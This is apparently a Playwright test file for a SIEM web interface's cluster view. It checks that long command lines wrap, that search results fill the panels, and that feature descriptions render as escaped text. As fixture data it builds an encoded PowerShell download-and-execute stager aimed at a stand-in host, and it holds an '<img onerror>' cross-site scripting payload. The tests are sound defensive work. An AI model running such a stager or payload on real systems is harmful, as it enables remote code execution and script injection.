"""The cluster view's panels and layout, in Chromium against the real service
(review R1, items 5, 11 and 12): features named in words, long unbroken
tokens that wrap instead of widening the page, and a search result whose
panels describe what is drawn."""

from __future__ import annotations

import base64

import pytest

from tests.web.conftest import screenshot, start_site
from tests.web.queue_helpers import save_detection, sign_in_to_queue, stored_cluster
from tests.web.support import process_creation

pytestmark = pytest.mark.browser

# A stager whose command line is one unbroken base64 token of ~2,700 characters.
DECODED = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png'); " * 15
ENCODED_COMMAND = "powershell.exe -nop -w hidden -enc " + base64.b64encode(
    DECODED.encode("utf-16-le")).decode("ascii")
HOSTS = [f"enc-{i:02d}" for i in range(6)]
IMG = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def stager_site(tmp_path_factory):
    """Six hosts run the encoded stager (Sysmon 1 through POST /v1/events)."""
    with start_site(tmp_path_factory.mktemp("stager")) as site:
        events = [process_creation(host, i, f"2026-11-20T09:00:{10 + i:02d}.000Z", ENCODED_COMMAND)
                  for i, host in enumerate(HOSTS)]
        report = site.api("POST", "/v1/events", role="ingest", json=events)
        assert report["accepted"] == len(events), report
        site.wait_until_searchable("powershell.exe -nop")
        yield site


def open_search_result(page, text: str, button: str) -> None:
    page.fill("#search-input", text)
    page.click("#search-form button[type=submit]")
    page.wait_for_selector("#search-results:not([hidden]) li")
    page.click(f"#search-results button:has-text('{button}')")
    page.wait_for_selector("body[data-state=explore-ready]")
    page.wait_for_selector("body[data-evidence=ready]")


def selection_field(page, name: str) -> str:
    return page.evaluate(
        """(name) => {
          const dt = [...document.querySelectorAll('#selection dt')].find((d) => d.textContent === name);
          return dt ? dt.nextElementSibling.textContent : null;
        }""", name)


def test_a_search_result_fills_the_panels_as_a_click_does(page, stager_site):
    sign_in_to_queue(page, stager_site)
    open_search_result(page, "powershell.exe -nop", "powershell.exe")
    drawn = page.evaluate("""() => {
      const cy = window.graphsiem.clusterView.graph.cy;
      return cy.$(':selected').connectedEdges().length;
    }""")
    assert drawn >= len(HOSTS)
    # Review R1: "relations shown 0" and "0 evidence events" beside the drawn relations.
    assert selection_field(page, "relations shown") == str(drawn)
    from_search = page.inner_text("#evidence-caption")
    assert f": {len(HOSTS)} evidence events" in from_search
    assert page.locator("#evidence-table tbody tr:not(.missing)").count() == len(HOSTS)

    page.evaluate("() => { window.graphsiem.clusterView.graph.cy.$(':selected')[0].emit('tap'); }")
    page.wait_for_selector("body[data-evidence=ready]")
    assert page.inner_text("#evidence-caption") == from_search
    assert selection_field(page, "relations shown") == str(drawn)


def test_long_command_lines_wrap_instead_of_widening_the_page(page, stager_site):
    page.set_viewport_size({"width": 1600, "height": 950})
    sign_in_to_queue(page, stager_site)
    # Two neighbours from the search, then "Expand neighbours" on the stager adds the rest
    # (the toolbar's status names it: review R1's one token of 2,471 px).
    page.evaluate("() => { document.getElementById('tool-limit').value = '2'; }")
    open_search_result(page, "powershell.exe -nop", "powershell.exe")
    page.fill("#tool-limit", "25")
    page.click("#tool-expand")
    page.wait_for_selector("#tool-status:has-text('new relation(s)')")
    page.evaluate("""() => { window.graphsiem.clusterView.graph.cy.nodes()
      .filter((n) => n.data('value').includes(' -enc '))[0].emit('tap'); }""")
    page.wait_for_selector("body[data-evidence=ready]")
    assert ENCODED_COMMAND in page.inner_text("#selection")
    assert ENCODED_COMMAND[40:120] in page.inner_text("#evidence-caption")
    screenshot(page, "long-command-wraps")

    # Review R1: 2,471 px of page in a 1,600 px viewport.
    widths = page.evaluate("() => ({scroll: document.documentElement.scrollWidth, view: window.innerWidth})")
    assert widths["scroll"] <= widths["view"], widths
    # Every label of the selection stays inside its own column (no label over its value).
    overlaps = page.evaluate("""() => [...document.querySelectorAll('#selection dt')].filter((dt) => {
      const a = dt.getBoundingClientRect(), b = dt.nextElementSibling.getBoundingClientRect();
      return a.right > b.left + 0.5;
    }).map((dt) => dt.textContent)""")
    assert overlaps == []
    # Nothing in the side panels sticks out of them.
    assert page.evaluate("""() => { const side = document.querySelector('.side');
      return side.scrollWidth <= side.clientWidth; }""")


@pytest.fixture(scope="module")
def described_site(tmp_path_factory):
    """One stored cluster whose features carry the API's `description` (one of them hostile)."""
    data_dir = tmp_path_factory.mktemp("described")
    with start_site(data_dir) as site:
        save_detection(data_dir, "d1", [stored_cluster(88.0, "described", explanation={
            "summary": "2 hosts first contacted rare.example", "features": [
                {"name": "source_kinds", "value": 2, "baseline": 1, "contribution": 0.3,
                 "description": "kinds of telemetry (process, network, DNS...) that saw the cluster"},
                {"name": "host_count", "value": 2, "baseline": 1, "contribution": 0.2,
                 "description": f"hosts in the cluster {IMG}"},
                {"name": "exclusivity", "value": 0.9, "baseline": 0.1, "contribution": 0.1},
            ]})])
        yield site


def test_features_are_shown_in_words_with_their_name_as_a_label(page, described_site):
    sign_in_to_queue(page, described_site)
    page.click("#queue-body tr[data-cluster-id='c-described']")
    page.wait_for_selector("body[data-state=cluster-ready]")
    cells = page.eval_on_selector_all("#explanation-table tbody tr td:first-child", """cells => cells.map(c => ({
      text: c.querySelector('.feature-text')?.textContent ?? null,
      name: c.querySelector('code.feature-name')?.textContent ?? null}))""")
    assert cells == [
        {"text": "kinds of telemetry (process, network, DNS...) that saw the cluster", "name": "source_kinds"},
        {"text": f"hosts in the cluster {IMG}", "name": "host_count"},
        {"text": None, "name": "exclusivity"},  # no description: the name alone
    ]
    # API text is data: the markup in a description is text, never an element.
    assert page.evaluate("() => document.querySelectorAll('img').length") == 0
    assert page.watch.dialogs == [] and page.watch.csp_violations == []
    screenshot(page, "features-in-words")
